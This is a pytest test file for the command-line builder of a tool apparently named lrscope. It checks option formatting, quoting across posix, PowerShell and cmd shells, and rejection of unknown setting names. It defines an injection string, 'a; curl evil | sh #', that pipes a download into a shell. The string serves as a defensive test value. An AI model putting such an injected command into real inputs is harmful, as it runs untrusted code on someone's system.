"""Command lines: settings by their options, values quoted for the shell, and no name that is not a setting's."""

from __future__ import annotations

from pathlib import Path

import pytest

from lrscope.config.command_line import CommandLine, Shell, quote, resume
from lrscope.schedules import parse

HOSTILE = "a; curl evil | sh #"


def test_values_are_written_as_options_are_read() -> None:
    command = CommandLine("sweep", {"peak_rate": (1e-4, 3e-3), "schedule": (parse("linear"), parse("cosine"))})
    assert command.text("posix") == "lrscope sweep --lr 1e-4,3e-3 --schedule 'linear;cosine'"
    command = command.with_options(peak_rate=1e-3, gradient_checkpointing=True, scale_rate="sqrt")
    assert command.text("posix") == (
        "lrscope sweep --schedule 'linear;cosine' --lr 1e-3 --gradient-checkpointing --scale-lr sqrt"
    )
    assert CommandLine("report", positional=("a b",)).text("posix") == "lrscope report 'a b'"


@pytest.mark.parametrize("name", [HOSTILE, f"{HOSTILE}_names", "batch-size", "", "learning_rate"])
def test_a_name_that_is_no_setting_never_gets_into_a_command(name: str) -> None:
    with pytest.raises(ValueError, match="no setting is called"):
        CommandLine("sweep", {name: "1"})


@pytest.mark.parametrize(
    ("shell", "quoted"),
    [
        ("posix", "'a; curl evil | sh #'"),
        ("powershell", "'a; curl evil | sh #'"),
        ("cmd", '"a; curl evil | sh #"'),
    ],
)
def test_a_value_is_one_word_in_every_shell(shell: Shell, quoted: str) -> None:
    assert quote(HOSTILE, shell) == quoted
    assert resume("sweep", HOSTILE).text(shell) == f"lrscope sweep --resume {quoted}"  # type: ignore[arg-type]


def test_a_value_that_begins_with_a_dash_is_no_option() -> None:
    assert CommandLine("finetune", {"text_column": "--out"}).text("posix") == "lrscope finetune --text-column=--out"


def test_windows_paths_need_no_quotes() -> None:
    assert quote("C:\\runs\\a", "cmd") == quote("C:\\runs\\a", "powershell") == "C:\\runs\\a"


def test_command_lines_are_built_in_one_place() -> None:
    source = Path(__file__).parents[2] / "src" / "lrscope"
    quoting = [path.name for path in source.rglob("*.py") if "shlex.quote" in path.read_text(encoding="utf-8")]
    assert quoting == ["command_line.py"]
